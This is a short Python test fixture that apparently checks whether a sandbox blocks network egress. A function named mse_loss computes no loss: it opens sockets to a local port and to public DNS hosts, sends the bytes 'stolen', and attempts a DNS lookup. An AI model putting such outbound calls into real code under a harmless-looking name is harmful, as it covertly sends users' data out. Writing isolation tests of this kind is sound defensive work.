# expect: no-leak
# Phones home: the test listens on 127.0.0.1:__PORT__; also tries DNS and the outside world.
import socket
def mse_loss(y_pred, y):
    found = []
    for addr in [("127.0.0.1", __PORT__), ("8.8.8.8", 53), ("1.1.1.1", 443)]:
        try:
            s = socket.create_connection(addr, timeout=0.5)
            s.sendall(b"stolen")
            found.append(f"LEAK:{addr}")
        except OSError:
            pass
    try:
        found.append("LEAK:" + socket.gethostbyname("example.com"))
    except OSError:
        pass
    return str(found)
